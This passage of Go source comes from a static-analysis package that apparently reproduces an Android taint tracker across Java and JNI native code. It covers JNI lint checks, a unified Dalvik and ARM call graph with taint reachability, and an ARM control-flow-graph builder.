		out = append(out, fmt.Sprintf(format, args...))
	}
	// RegisterNatives re-registration moves a method's entry address after the
	// pre-analysis ran: the address-keyed check (SourceHandler) and the native
	// callee reach sets (SinkHandler, TrustCallHandler) are void from that
	// point on — code outside the static entry set may legitimately run.
	// Name-keyed Java-side checks still hold: rebinding cannot change the
	// declared method set.
	// Both the RegisterNatives event line and the StaticPinVoid diagnostic
	// the analyzer logs beside it mark the relaxation; either alone suffices,
	// so a future change to one line's shape cannot silently re-tighten the
	// check.
	rebound := false
	for _, line := range lines {
		if strings.HasPrefix(line, "RegisterNatives ") || strings.HasPrefix(line, "StaticPinVoid ") {
			rebound = true
			break
		}
	}
	for _, line := range lines {
		switch {
		case strings.HasPrefix(line, "JavaSink["):
			name := bracketArg(line, "JavaSink[")
			if !r.Sinks[name] {
				violate("dynamic Java sink %q not in static sink reach set", name)
			}
		case strings.HasPrefix(line, "SinkHandler["):
			name := bracketArg(line, "SinkHandler[")
			if !rebound && !r.Unresolved && !r.NativeCallees[name] {
				violate("dynamic native sink %q not in static callee reach set", name)
			}
		case strings.HasPrefix(line, "TrustCallHandler["):
			name := bracketArg(line, "TrustCallHandler[")
			if !rebound && !r.Unresolved && !r.NativeCallees[name] {
				violate("dynamic trust call %q not in static callee reach set", name)
			}
		case strings.HasPrefix(line, "SourceHandler @0x"):
			// The JNI-entry source policy fires once per crossing; its
			// address must be a reachable native method entry.
			var addr uint32
			if _, err := fmt.Sscanf(line, "SourceHandler @0x%x", &addr); err == nil {
				if !rebound && !r.CrossingAddrs[addr] {
					violate("dynamic JNI entry @%#x not in static crossing reach set", addr)
				}
			}
		case strings.HasPrefix(line, "dvmCallJNIMethod: "):
			name := fieldArg(line, "name=")
			if name != "" && !r.Crossings[name] {
				violate("dynamic JNI call %q not in static crossing reach set", name)
			}
		case strings.HasPrefix(line, "JNIReturn "):
			name := strings.TrimPrefix(line, "JNIReturn ")
			if i := strings.IndexByte(name, ' '); i >= 0 {
				name = name[:i]
			}
			if name != "" && !r.Crossings[name] {
				violate("dynamic JNI return %q not in static crossing reach set", name)
			}
		}
	}
	return out
}

// bracketArg extracts NAME from "Prefix[NAME]...".
func bracketArg(line, prefix string) string {
	rest := strings.TrimPrefix(line, prefix)
	if i := strings.IndexByte(rest, ']'); i >= 0 {
		return rest[:i]
	}
	return rest
}

// fieldArg extracts VALUE from "... key=VALUE ..." (space-terminated).
func fieldArg(line, key string) string {
	i := strings.Index(line, key)
	if i < 0 {
		return ""
	}
	rest := line[i+len(key):]
	if j := strings.IndexByte(rest, ' '); j >= 0 {
		return rest[:j]
	}
	return rest
}

// Summary renders the one-line report used by cmd/ndroid and flow logs.
func (r *Result) Summary() string {
	return fmt.Sprintf("static: %d/%d methods pinned, %d/%d pages pinned, %d lint findings, taint-free=%v",
		r.PinnedMethods, r.Methods, r.PinnedPages, r.NativePages, len(r.Findings), r.TaintFree)
}
