package static

import (
	"fmt"
	"sort"

	"repro/internal/dex"
	"repro/internal/dvm"
	"repro/internal/fault"
)

// The JNI lint checks three contract classes over crossing sites, reporting
// violations as typed fault diagnostics (Layer "static") without aborting
// the run — static findings are advisory, the dynamic engine still enforces
// the contract at runtime.
//
//  1. Registration: every declared native method must be bound to an address
//     inside the loaded native code range, and every invoke of a native
//     method must pass the argument count its shorty declares.
//  2. Get/Release pairing: a native function that obtains a pinned handle
//     (GetStringUTFChars) on some path without releasing it before return.
//  3. Use-after-release: a register that may hold a released handle flowing
//     into a later call's pointer argument.
//
// Checks 2 and 3 are a forward may-dataflow over the native function body
// using the shared worklist solver: one "handle site" per Get call, with
// facts tracking which registers may hold which site's handle and whether
// the site has been released on some path.

// handleGetCalls obtain a pinned native pointer that must be paired with the
// named release call.
var handleGetCalls = map[string]string{
	"GetStringUTFChars": "ReleaseStringUTFChars",
}

// handleReleaseCalls is the reverse view: release name -> true.
var handleReleaseCalls = map[string]bool{
	"ReleaseStringUTFChars": true,
}

// Lint runs all static JNI checks over the VM's registered classes and the
// native CFGs. Findings are sorted by rendered text for determinism.
func Lint(vm *dvm.VM, cfgs []*NativeCFG) []*fault.Fault {
	var out []*fault.Fault
	out = append(out, lintRegistration(vm)...)
	for _, cfg := range cfgs {
		for _, entry := range sortedEntries(cfg) {
			out = append(out, lintHandles(cfg, cfg.Funcs[entry])...)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Error() < out[j].Error() })
	return out
}

func sortedEntries(cfg *NativeCFG) []uint32 {
	var entries []uint32
	for e := range cfg.Funcs {
		entries = append(entries, e)
	}
	sort.Slice(entries, func(i, j int) bool { return entries[i] < entries[j] })
	return entries
}

// lintRegistration checks native-method bindings and every call site that
// statically resolves to a native method for arity/signature mismatches.
func lintRegistration(vm *dvm.VM) []*fault.Fault {
	var out []*fault.Fault
	lo, hi := vm.NativeCodeRange()
	for _, name := range vm.Classes() {
		c, ok := vm.Class(name)
		if !ok {
			continue
		}
		for _, m := range c.Methods {
			if m.IsNative() {
				addr := m.NativeAddr &^ 1
				if m.NativeAddr == 0 {
					out = append(out, staticFault(m, "native method never registered"))
				} else if addr < lo || addr >= hi {
					out = append(out, staticFault(m,
						fmt.Sprintf("native method bound outside loaded code: %#x not in [%#x,%#x)", addr, lo, hi)))
				}
			}
			if len(m.Insns) == 0 {
				continue
			}
			for _, site := range NewMethodCFG(m).CallSites() {
				insn := site.Insn
				tc, ok := vm.Class(insn.ClassName)
				if !ok {
					continue
				}
				t, ok := tc.Method(insn.MemberName)
				if !ok || !t.IsNative() {
					continue
				}
				if insn.Shorty != "" && insn.Shorty != t.Shorty {
					out = append(out, staticFault(m, fmt.Sprintf(
						"call at pc %d: shorty %q does not match native %s shorty %q",
						site.PC, insn.Shorty, t.FullName(), t.Shorty)))
					continue
				}
				if want := t.InsSize(); len(insn.Args) != want {
					out = append(out, staticFault(m, fmt.Sprintf(
						"call at pc %d: %d argument registers for native %s expecting %d",
						site.PC, len(insn.Args), t.FullName(), want)))
				}
			}
		}
	}
	return out
}

func staticFault(m *dex.Method, detail string) *fault.Fault {
	return &fault.Fault{Kind: fault.JNIMisuse, Layer: "static", Method: m.FullName(), Detail: detail}
}

// handleFacts is the dataflow domain for one function: per Get site,
// 16 register bits ("register may hold site's handle") plus one released
// bit ("site may have been released on some path").
const (
	bitsPerSite = 17
	releasedBit = 16
)

// lintHandles runs the Get/Release pairing analysis over one native function.
func lintHandles(cfg *NativeCFG, fn *NativeFunc) []*fault.Fault {
	// Collect Get sites in address order.
	var sites []uint32
	siteOf := make(map[uint32]int)
	for _, addr := range fn.Body {
		insn := cfg.Insns[addr]
		if insn != nil && handleGetCalls[insn.CallName] != "" {
			siteOf[addr] = len(sites)
			sites = append(sites, addr)
		}
	}
	if len(sites) == 0 {
		return nil
	}

	g := newFuncGraph(cfg, fn)
	nbits := len(sites) * bitsPerSite
	sol := Solve(g, Problem{
		Dir:  Forward,
		Join: May,
		Bits: nbits,
		Boundary: func(n int) BitSet { return NewBitSet(nbits) },
		Transfer: func(n int, in BitSet) BitSet {
			out := in.Copy()
			insn := cfg.Insns[g.addr(n)]
			if insn == nil {
				return out
			}
			applyHandleTransfer(out, insn, g.addr(n), siteOf, len(sites))
			return out
		},
	})

	var out []*fault.Fault
	seen := make(map[string]bool)
	report := func(detail string) {
		if !seen[detail] {
			seen[detail] = true
			out = append(out, &fault.Fault{
				Kind: fault.JNIMisuse, Layer: "static",
				Method: fn.Name, Detail: detail,
			})
		}
	}
	// Solve returns out-sets; the use and return checks need the facts on
	// entry to the node, before its own transfer clobbers registers.
	inOf := func(n int) BitSet {
		in := NewBitSet(nbits)
		for _, p := range g.Preds(n) {
			in.Union(sol[p])
		}
		return in
	}
	for n := 0; n < g.NumNodes(); n++ {
		addr := g.addr(n)
		insn := cfg.Insns[addr]
		if insn == nil {
			continue
		}
		in := inOf(n)
		// Use-after-release: a call consuming a register that may hold a
		// handle whose site may already be released.
		if insn.CallName != "" && !handleReleaseCalls[insn.CallName] {
			for s := range sites {
				if !in.Get(s*bitsPerSite + releasedBit) {
					continue
				}
				for reg := 0; reg < 4; reg++ { // argument registers r0-r3
					if in.Get(s*bitsPerSite + reg) {
						report(fmt.Sprintf(
							"handle from GetStringUTFChars@%#x may be used by %s@%#x after release",
							sites[s], insn.CallName, addr))
					}
				}
			}
		}
		// Unreleased handle outstanding at a return point.
		if insn.Return {
			for s := range sites {
				live := false
				for reg := 0; reg < 16; reg++ {
					if in.Get(s*bitsPerSite + reg) {
						live = true
						break
					}
				}
				if live && !in.Get(s*bitsPerSite+releasedBit) {
					report(fmt.Sprintf(
						"handle from GetStringUTFChars@%#x may be unreleased at return@%#x",
						sites[s], addr))
				}
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Detail < out[j].Detail })
	return out
}

// applyHandleTransfer mutates the fact set across one instruction.
func applyHandleTransfer(f BitSet, insn *NativeInsn, addr uint32, siteOf map[uint32]int, nsites int) {
	killReg := func(reg int) {
		for s := 0; s < nsites; s++ {
			f.Clear(s*bitsPerSite + reg)
		}
	}
	switch {
	case insn.CallName != "" || insn.CallLocal != 0:
		if handleReleaseCalls[insn.CallName] {
			// ReleaseStringUTFChars(env, str, chars): the handle is in r2.
			for s := 0; s < nsites; s++ {
				if f.Get(s*bitsPerSite + 2) {
					f.Set(s*bitsPerSite + releasedBit)
				}
			}
		}
		// Calls clobber the AAPCS caller-saved registers.
		for _, reg := range []int{0, 1, 2, 3, 12, 14} {
			killReg(reg)
		}
		if s, ok := siteOf[addr]; ok {
			// The Get call's result register now holds the site's handle.
			f.Set(s*bitsPerSite + 0)
		}
	default:
		if rd := destReg(insn); rd >= 0 && rd < 16 {
			if src := copySrcReg(insn); src >= 0 && src < 16 {
				// Register copy propagates may-hold facts.
				for s := 0; s < nsites; s++ {
					if f.Get(s*bitsPerSite + src) {
						killReg(rd)
						f.Set(s*bitsPerSite + rd)
						return
					}
				}
			}
			killReg(rd)
		}
	}
}
