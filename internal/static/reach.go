package static

import (
	"sort"
	"strings"

	"repro/internal/dex"
	"repro/internal/dvm"
)

// sinkCalls are the libc/syscall functions the System Lib Hook Engine
// treats as sinks (Table VI rows with sink semantics). A native function
// that can reach one of these can publish data off-device.
var sinkCalls = map[string]bool{
	"write": true, "send": true, "sendto": true,
	"fwrite": true, "fputs": true, "fputc": true,
	"fprintf": true, "vfprintf": true,
}

// javaReentryCalls are the JNI env functions through which native code calls
// back into Java. Their method IDs are runtime values, so the call graph
// conservatively fans out to every registered method.
var javaReentryCalls = map[string]bool{
	"CallStaticVoidMethod": true, "CallStaticObjectMethod": true,
	"CallStaticIntMethod": true, "CallVoidMethod": true,
	"CallObjectMethod": true, "CallIntMethod": true,
}

// touches-fact bit positions (the backward closure problem).
const (
	factSource = iota
	factSink
	factCrossing
	factUnresolved
	numTouchBits
)

// cgEdge is one call edge; args>0 means the call can pass data into the
// callee's frame (argument registers, receiver included).
type cgEdge struct {
	to   int
	args int
}

// callGraph is the unified Dalvik+native call graph: one node per registered
// Java method (interpreted, builtin, or native declaration) plus one node
// per native function discovered by the ARM CFG traversal.
type callGraph struct {
	nodes []*cgNode
	byM   map[*dex.Method]int
	byFn  map[uint32]int // native function entry -> node

	succs [][]cgEdge
	preds [][]cgEdge
}

type cgNode struct {
	m   *dex.Method // nil for native functions
	fn  *NativeFunc // nil for Java methods
	cfg *MethodCFG  // interpreted methods only

	isSource, isSink, isCrossing, unresolved bool
	heapRead, heapWrite                      bool
	sinkNames                                []string // reached sink labels at this node
}

// NumNodes/Succs/Preds adapt the call graph to the dataflow Graph interface
// (edge metadata is dropped; the solver problems that need arg counts walk
// the typed edges directly).
func (g *callGraph) NumNodes() int { return len(g.nodes) }
func (g *callGraph) Succs(n int) []int {
	out := make([]int, len(g.succs[n]))
	for i, e := range g.succs[n] {
		out[i] = e.to
	}
	return out
}
func (g *callGraph) Preds(n int) []int {
	out := make([]int, len(g.preds[n]))
	for i, e := range g.preds[n] {
		out[i] = e.to
	}
	return out
}

func (g *callGraph) addEdge(from, to, args int) {
	g.succs[from] = append(g.succs[from], cgEdge{to: to, args: args})
	g.preds[to] = append(g.preds[to], cgEdge{to: from, args: args})
}

// buildCallGraph constructs the unified graph from the VM's registered
// classes and the native CFGs of its loaded libraries.
func buildCallGraph(vm *dvm.VM, cfgs []*NativeCFG) *callGraph {
	g := &callGraph{byM: make(map[*dex.Method]int), byFn: make(map[uint32]int)}

	// Nodes: every method of every registered class, in sorted class order
	// for determinism.
	var classes []*dex.Class
	for _, name := range vm.Classes() {
		if c, ok := vm.Class(name); ok {
			classes = append(classes, c)
		}
	}
	for _, c := range classes {
		for _, m := range c.Methods {
			g.byM[m] = len(g.nodes)
			g.nodes = append(g.nodes, &cgNode{m: m})
		}
	}
	for _, cfg := range cfgs {
		var entries []uint32
		for e := range cfg.Funcs {
			entries = append(entries, e)
		}
		sort.Slice(entries, func(i, j int) bool { return entries[i] < entries[j] })
		for _, e := range entries {
			g.byFn[e] = len(g.nodes)
			g.nodes = append(g.nodes, &cgNode{fn: cfg.Funcs[e]})
		}
	}
	g.succs = make([][]cgEdge, len(g.nodes))
	g.preds = make([][]cgEdge, len(g.nodes))

	// Subclass cone for conservative virtual dispatch. The visited set guards
	// against cyclic super chains (a malformed class may name itself).
	subtypes := make(map[string][]*dex.Class)
	for _, c := range classes {
		visited := make(map[string]bool)
		for anc := c; !visited[anc.Name]; {
			visited[anc.Name] = true
			subtypes[anc.Name] = append(subtypes[anc.Name], c)
			if anc.Super == "" {
				break
			}
			next, ok := vm.Class(anc.Super)
			if !ok {
				break
			}
			anc = next
		}
	}

	// Classify and wire Java nodes.
	for idx, n := range g.nodes {
		if n.m == nil {
			continue
		}
		m := n.m
		full := m.FullName()
		switch {
		case vm.IsSourceMethod(full):
			n.isSource = true
		case vm.IsSinkMethod(full):
			n.isSink = true
			n.sinkNames = []string{leakLabel(m)}
		}
		if m.IsNative() {
			n.isCrossing = true
			if fnIdx, ok := g.byFn[m.NativeAddr&^1]; ok {
				// The JNI bridge always passes env and the receiver/class.
				g.addEdge(idx, fnIdx, 1+len(m.Shorty)-1)
			} else if m.NativeAddr != 0 {
				n.unresolved = true
			}
			continue
		}
		if len(m.Insns) == 0 {
			continue // builtin: host code, no guest call sites
		}
		n.cfg = NewMethodCFG(m)
		n.heapRead = n.cfg.HeapReads()
		n.heapWrite = n.cfg.HeapWrites()
		for _, site := range n.cfg.CallSites() {
			insn := site.Insn
			targets := resolveCall(vm, subtypes, insn)
			if len(targets) == 0 {
				n.unresolved = true
				continue
			}
			for _, t := range targets {
				if tIdx, ok := g.byM[t]; ok {
					g.addEdge(idx, tIdx, len(insn.Args))
				}
			}
		}
	}

	// Wire native-function nodes.
	for idx, n := range g.nodes {
		if n.fn == nil {
			continue
		}
		fn := n.fn
		if fn.Unresolved || fn.BadDecode {
			n.unresolved = true
		}
		for _, local := range fn.LocalCalls {
			if tIdx, ok := g.byFn[local]; ok {
				g.addEdge(idx, tIdx, 4)
			}
		}
		for _, callee := range fn.Calls {
			switch {
			case sinkCalls[callee]:
				n.isSink = true
				n.sinkNames = append(n.sinkNames, callee)
			case javaReentryCalls[callee]:
				// Method IDs are runtime values: fan out to every method.
				for tIdx, t := range g.nodes {
					if t.m != nil {
						g.addEdge(idx, tIdx, 4)
					}
				}
			case callee == "svc":
				// A raw supervisor call bypasses the modeled libc entirely;
				// treat it like an unresolvable transfer.
				n.unresolved = true
			}
		}
	}
	return g
}

// resolveCall returns the possible targets of one invoke instruction:
// exact-class lookup for static/direct calls, the subclass cone for virtual
// dispatch. An empty result means the target class or method is unknown to
// the VM (the call site stays conservative).
func resolveCall(vm *dvm.VM, subtypes map[string][]*dex.Class, insn *dex.Insn) []*dex.Method {
	var out []*dex.Method
	add := func(c *dex.Class) {
		if m, ok := c.Method(insn.MemberName); ok {
			out = append(out, m)
		}
	}
	if insn.Op == dex.InvokeVirtual {
		for _, c := range subtypes[insn.ClassName] {
			add(c)
		}
		// The declared class itself may be the only implementor even if the
		// cone map missed it (unregistered supers).
		if len(out) == 0 {
			if c, ok := vm.Class(insn.ClassName); ok {
				add(c)
			}
		}
		return out
	}
	if c, ok := vm.Class(insn.ClassName); ok {
		add(c)
	}
	return out
}

// leakLabel renders the name a Java sink uses in leak reports and flow logs:
// class simple name + method ("Network.send").
func leakLabel(m *dex.Method) string {
	cls := strings.TrimSuffix(m.Class.Name, ";")
	if i := strings.LastIndexByte(cls, '/'); i >= 0 {
		cls = cls[i+1:]
	}
	return cls + "." + m.Name
}

// reachResult is the taint-reachability pass output consumed by Analyze.
type reachResult struct {
	g         *callGraph
	reachable BitSet // nodes reachable from the entry method
	touches   []BitSet
	mayTaint  BitSet // Java frames that can ever hold a tainted value
	taintFree bool   // no source reachable from entry: no taint can ever exist
}

// analyzeReach runs the entry sweep, the backward interesting-closure
// problem, and the frame-taint fixpoint.
func analyzeReach(g *callGraph, entry *dex.Method) *reachResult {
	r := &reachResult{g: g}

	entryIdx, haveEntry := g.byM[entry]
	if haveEntry {
		r.reachable = Reachable(g, []int{entryIdx})
	} else {
		r.reachable = NewBitSet(len(g.nodes))
	}

	// Backward may-closure: a node touches a source/sink/crossing if it is
	// one or any callee transitively is. This is the pin criterion's first
	// half and the cross-validation reach set.
	base := make([]BitSet, len(g.nodes))
	for i, n := range g.nodes {
		b := NewBitSet(numTouchBits)
		if n.isSource {
			b.Set(factSource)
		}
		if n.isSink {
			b.Set(factSink)
		}
		if n.isCrossing {
			b.Set(factCrossing)
		}
		if n.unresolved {
			b.Set(factUnresolved)
		}
		base[i] = b
	}
	r.touches = Solve(g, Problem{
		Dir:  Backward,
		Join: May,
		Bits: numTouchBits,
		Boundary: func(n int) BitSet { return base[n] },
		Transfer: func(n int, in BitSet) BitSet { return in },
	})

	r.taintFree = true
	for i := range g.nodes {
		if r.reachable.Get(i) && g.nodes[i].isSource {
			r.taintFree = false
			break
		}
	}

	r.mayTaint = NewBitSet(len(g.nodes))
	if !r.taintFree {
		r.solveFrameTaint()
	}
	return r
}

// solveFrameTaint computes which Java frames can ever hold a tainted value,
// the second half of the pin criterion. Mutual fixpoint with returnsTaint:
//
//	frameMayTaint(M) ⇐ a callee may return taint into M,
//	               or a caller whose frame may taint passes ≥1 argument,
//	               or M reads heap state and tainted heap state can exist.
//	returnsTaint(C)  ⇐ C is a source, C is a JNI crossing (naive return
//	               policy aside, NDroid may taint the return), or C is
//	               interpreted/builtin with a non-void return and a frame
//	               that may taint.
//
// Monotone over (mayTaint, returnsTaint, heapMayTaint), so a round-robin
// sweep to quiescence terminates.
func (r *reachResult) solveFrameTaint() {
	g := r.g
	returns := NewBitSet(len(g.nodes))
	heapMayTaint := false

	returnsTaint := func(i int) bool {
		n := g.nodes[i]
		if n.m == nil {
			return false // native funcs feed the crossing node above them
		}
		if n.isSource || n.isCrossing {
			return true
		}
		if n.m.Shorty == "" || n.m.Shorty[0] == 'V' {
			return false
		}
		return r.mayTaint.Get(i)
	}

	for changed := true; changed; {
		changed = false
		for i, n := range g.nodes {
			if n.m == nil {
				continue
			}
			if !r.mayTaint.Get(i) {
				taints := false
				for _, e := range g.succs[i] {
					if returns.Get(e.to) {
						taints = true
						break
					}
				}
				if !taints {
					for _, e := range g.preds[i] {
						if e.args > 0 && r.mayTaint.Get(e.to) {
							taints = true
							break
						}
					}
				}
				if !taints && n.heapRead && heapMayTaint {
					taints = true
				}
				if taints {
					r.mayTaint.Set(i)
					changed = true
				}
			}
			if !returns.Get(i) && returnsTaint(i) {
				returns.Set(i)
				changed = true
			}
			if !heapMayTaint && ((r.mayTaint.Get(i) && n.heapWrite) || (n.isCrossing && r.reachable.Get(i))) {
				// Tainted heap state can exist once a tainted frame stores to
				// it — or once any crossing runs, since native code can write
				// fields and arrays through the JNI env.
				heapMayTaint = true
				changed = true
			}
		}
	}
	_ = returns
}

// pinnable reports whether the interpreted method node may be pinned to the
// clean translation variant: its frame can never hold taint and its call
// closure contains no source, sink, JNI crossing, or unresolved transfer.
func (r *reachResult) pinnable(i int) bool {
	n := r.g.nodes[i]
	if n.m == nil || n.m.IsNative() || n.m.Builtin != nil || len(n.m.Insns) == 0 {
		return false
	}
	if r.taintFree {
		return true
	}
	t := r.touches[i]
	return !r.mayTaint.Get(i) &&
		!t.Get(factSource) && !t.Get(factSink) &&
		!t.Get(factCrossing) && !t.Get(factUnresolved)
}
