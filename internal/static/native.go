package static

import (
	"encoding/binary"
	"sort"

	"repro/internal/arm"
)

// NativeInsn is one decoded instruction in a native-code CFG.
type NativeInsn struct {
	Addr  uint32
	Thumb bool
	Insn  arm.Insn

	// Succs are intra-procedural successors (fall-through and branches, not
	// call targets).
	Succs []uint32
	// CallName is the resolved extern callee (libc/libm/JNI/libdvm symbol)
	// when this instruction calls or tail-calls out of the program; "svc"
	// for raw supervisor calls.
	CallName string
	// CallLocal is the in-program call target (BL label), 0 when none.
	CallLocal uint32
	// Indirect marks an unresolvable control transfer (register branch whose
	// target the MOVW/MOVT constant tracker could not prove).
	Indirect bool
	// Return marks a function exit (BX LR, POP {...,PC}, MOV PC, LR).
	Return bool
}

// NativeFunc is one function discovered in a native library: the
// instructions reachable from its entry without crossing a call edge.
type NativeFunc struct {
	Entry uint32
	Name  string
	Body  []uint32 // instruction addresses, sorted

	Calls      []string // extern callees, deduplicated
	LocalCalls []uint32 // in-program call targets (function entries)
	Unresolved bool     // an indirect transfer escaped the constant tracker
	BadDecode  bool     // traversal reached undecodable bytes
}

// NativeCFG is the control-flow graph of one loaded native library image,
// built by conservative recursive traversal from the bound JNI entry points.
// Data bytes (.asciz/.space) are never decoded because nothing branches to
// them; indirect branches whose targets the MOVW/MOVT tracker cannot resolve
// stop traversal and mark the enclosing function Unresolved.
type NativeCFG struct {
	Prog  *arm.Program
	Insns map[uint32]*NativeInsn
	Funcs map[uint32]*NativeFunc

	order []uint32 // sorted instruction addresses, built on demand
}

// BuildNativeCFG decodes the program's control flow from the given entry
// points (address → name; bit 0 of the address selects Thumb). resolve maps
// out-of-program addresses to symbol names (libc, JNI env, libdvm).
func BuildNativeCFG(prog *arm.Program, entries map[uint32]string, resolve func(uint32) (string, bool)) *NativeCFG {
	b := &cfgBuilder{
		cfg:     &NativeCFG{Prog: prog, Insns: make(map[uint32]*NativeInsn), Funcs: make(map[uint32]*NativeFunc)},
		resolve: resolve,
		entries: make(map[uint32]string),
	}
	for addr, name := range entries {
		b.entries[addr] = name
	}
	// Deterministic entry order.
	var roots []uint32
	for addr := range b.entries {
		roots = append(roots, addr)
	}
	sort.Slice(roots, func(i, j int) bool { return roots[i] < roots[j] })
	for _, addr := range roots {
		b.exploreFunc(addr)
	}
	// Local call targets become function entries of their own; exploreFunc
	// appends to b.pending as it finds them.
	for len(b.pending) > 0 {
		addr := b.pending[0]
		b.pending = b.pending[1:]
		b.exploreFunc(addr)
	}
	return b.cfg
}

type cfgBuilder struct {
	cfg     *NativeCFG
	resolve func(uint32) (string, bool)
	entries map[uint32]string
	pending []uint32
}

func (b *cfgBuilder) inProg(addr uint32) bool {
	p := b.cfg.Prog
	return addr >= p.Base && addr < p.Base+p.Size()
}

func (b *cfgBuilder) decode(addr uint32, thumb bool) (arm.Insn, bool) {
	p := b.cfg.Prog
	off := int(addr - p.Base)
	if thumb {
		if off < 0 || off+2 > len(p.Code) {
			return arm.Insn{}, false
		}
		hw := binary.LittleEndian.Uint16(p.Code[off:])
		var hw2 uint16
		if off+4 <= len(p.Code) {
			hw2 = binary.LittleEndian.Uint16(p.Code[off+2:])
		}
		insn := arm.DecodeThumb(hw, hw2)
		if insn.Op == arm.OpInvalid || off+int(insn.Size) > len(p.Code) {
			return arm.Insn{}, false
		}
		return insn, true
	}
	if off < 0 || off+4 > len(p.Code) {
		return arm.Insn{}, false
	}
	insn := arm.Decode(binary.LittleEndian.Uint32(p.Code[off:]))
	if insn.Op == arm.OpInvalid {
		return arm.Insn{}, false
	}
	return insn, true
}

// exploreFunc traverses one function: every instruction reachable from entry
// without crossing a call edge. Call targets found on the way are queued as
// new functions.
func (b *cfgBuilder) exploreFunc(entry uint32) {
	start := entry &^ 1
	if _, done := b.cfg.Funcs[start]; done {
		return
	}
	fn := &NativeFunc{Entry: start, Name: b.entries[entry]}
	if fn.Name == "" {
		fn.Name = b.entries[start]
	}
	b.cfg.Funcs[start] = fn

	type workItem struct {
		addr   uint32
		thumb  bool
		consts map[int8]uint32 // known register constants (MOVW/MOVT tracking)
	}
	inBody := make(map[uint32]bool)
	work := []workItem{{addr: start, thumb: entry&1 != 0}}
	for len(work) > 0 {
		item := work[len(work)-1]
		work = work[:len(work)-1]
		addr, thumb, consts := item.addr, item.thumb, item.consts
		if consts == nil {
			consts = make(map[int8]uint32)
		}
		for {
			if inBody[addr] {
				break
			}
			insn, ok := b.decode(addr, thumb)
			if !ok {
				fn.BadDecode = true
				break
			}
			inBody[addr] = true
			ni := b.cfg.Insns[addr]
			if ni == nil {
				ni = &NativeInsn{Addr: addr, Thumb: thumb, Insn: insn}
				b.cfg.Insns[addr] = ni
			}
			next := addr + insn.Size
			stop := b.step(fn, ni, consts, next, thumb, func(target uint32, tthumb bool) {
				if !inBody[target] {
					work = append(work, workItem{addr: target, thumb: tthumb})
				}
			})
			if stop {
				break
			}
			addr = next
		}
	}

	fn.Body = make([]uint32, 0, len(inBody))
	for a := range inBody {
		fn.Body = append(fn.Body, a)
	}
	sort.Slice(fn.Body, func(i, j int) bool { return fn.Body[i] < fn.Body[j] })
	seenCall := make(map[string]bool)
	seenLocal := make(map[uint32]bool)
	for _, a := range fn.Body {
		ni := b.cfg.Insns[a]
		if ni == nil {
			continue
		}
		if ni.CallName != "" && !seenCall[ni.CallName] {
			seenCall[ni.CallName] = true
			fn.Calls = append(fn.Calls, ni.CallName)
		}
		if ni.CallLocal != 0 && !seenLocal[ni.CallLocal] {
			seenLocal[ni.CallLocal] = true
			fn.LocalCalls = append(fn.LocalCalls, ni.CallLocal)
		}
		if ni.Indirect {
			fn.Unresolved = true
		}
	}
	sort.Strings(fn.Calls)
	sort.Slice(fn.LocalCalls, func(i, j int) bool { return fn.LocalCalls[i] < fn.LocalCalls[j] })
}

// step classifies one instruction's control flow, updates the constant
// tracker, records successor edges, and reports whether the linear walk
// stops here. branch() queues an intra-procedural target.
func (b *cfgBuilder) step(fn *NativeFunc, ni *NativeInsn, consts map[int8]uint32, next uint32, thumb bool, branch func(uint32, bool)) bool {
	insn := ni.Insn
	addSucc := func(t uint32) {
		for _, s := range ni.Succs {
			if s == t {
				return
			}
		}
		ni.Succs = append(ni.Succs, t)
	}
	clobberCall := func() {
		for _, r := range []int8{0, 1, 2, 3, 12, arm.LR} {
			delete(consts, r)
		}
	}

	switch insn.Op {
	case arm.OpB:
		tgt := ni.Addr + insn.Size + uint32(insn.Imm)
		if b.inProg(tgt) {
			addSucc(tgt)
			branch(tgt, thumb)
		} else if name, ok := b.resolve(tgt); ok {
			// Direct tail call out of the image.
			ni.CallName = name
			ni.Return = true
		} else {
			ni.Indirect = true
		}
		if insn.Cond != arm.CondAL {
			addSucc(next)
			return false
		}
		return true
	case arm.OpBL:
		tgt := ni.Addr + insn.Size + uint32(insn.Imm)
		if b.inProg(tgt) {
			ni.CallLocal = tgt
			b.queueFunc(tgt, thumb)
		} else if name, ok := b.resolve(tgt); ok {
			ni.CallName = name
		} else {
			ni.Indirect = true
		}
		clobberCall()
		addSucc(next)
		return false
	case arm.OpBX:
		if insn.Rm == arm.LR {
			ni.Return = true
			return true
		}
		if v, ok := consts[insn.Rm]; ok {
			if b.inProg(v &^ 1) {
				tgt := v &^ 1
				addSucc(tgt)
				branch(tgt, v&1 != 0)
			} else if name, ok := b.resolve(v &^ 1); ok {
				// Extern-B veneer: MOVW/MOVT IP; BX IP — a tail call that
				// returns to our own caller.
				ni.CallName = name
				ni.Return = true
			} else {
				ni.Indirect = true
			}
		} else {
			ni.Indirect = true
		}
		return true
	case arm.OpBLX:
		if insn.Rm != arm.RegNone {
			if v, ok := consts[insn.Rm]; ok {
				if b.inProg(v &^ 1) {
					ni.CallLocal = v &^ 1
					b.queueFunc(v&^1, v&1 != 0)
				} else if name, ok := b.resolve(v &^ 1); ok {
					ni.CallName = name
				} else {
					ni.Indirect = true
				}
			} else {
				ni.Indirect = true
			}
		} else {
			// Immediate BLX switches instruction set; treat like BL.
			tgt := ni.Addr + insn.Size + uint32(insn.Imm)
			if b.inProg(tgt) {
				ni.CallLocal = tgt
				b.queueFunc(tgt, !thumb)
			} else if name, ok := b.resolve(tgt); ok {
				ni.CallName = name
			} else {
				ni.Indirect = true
			}
		}
		clobberCall()
		addSucc(next)
		return false
	case arm.OpSVC:
		ni.CallName = "svc"
		addSucc(next)
		return false
	case arm.OpHLT:
		return true
	case arm.OpLDM:
		if insn.RegList&(1<<uint(arm.PC)) != 0 {
			ni.Return = true // POP {...,PC}
			return true
		}
		for r := int8(0); r < 16; r++ {
			if insn.RegList&(1<<uint(r)) != 0 {
				delete(consts, r)
			}
		}
		if insn.Writeback {
			delete(consts, insn.Rn)
		}
		addSucc(next)
		return false
	}

	// PC-writing ALU/load forms: MOV PC, LR is a return; anything else is an
	// unresolved indirect transfer.
	if insn.Rd == arm.PC {
		if insn.Op == arm.OpMOV && insn.Rm == arm.LR {
			ni.Return = true
		} else {
			ni.Indirect = true
		}
		return true
	}

	// Constant tracking for the veneer/LDR= idiom.
	switch insn.Op {
	case arm.OpMOVW:
		consts[insn.Rd] = uint32(insn.Imm) & 0xffff
	case arm.OpMOVT:
		if v, ok := consts[insn.Rd]; ok {
			consts[insn.Rd] = (v & 0xffff) | uint32(insn.Imm)<<16
		} else {
			delete(consts, insn.Rd)
		}
	case arm.OpMOV:
		if insn.HasImm {
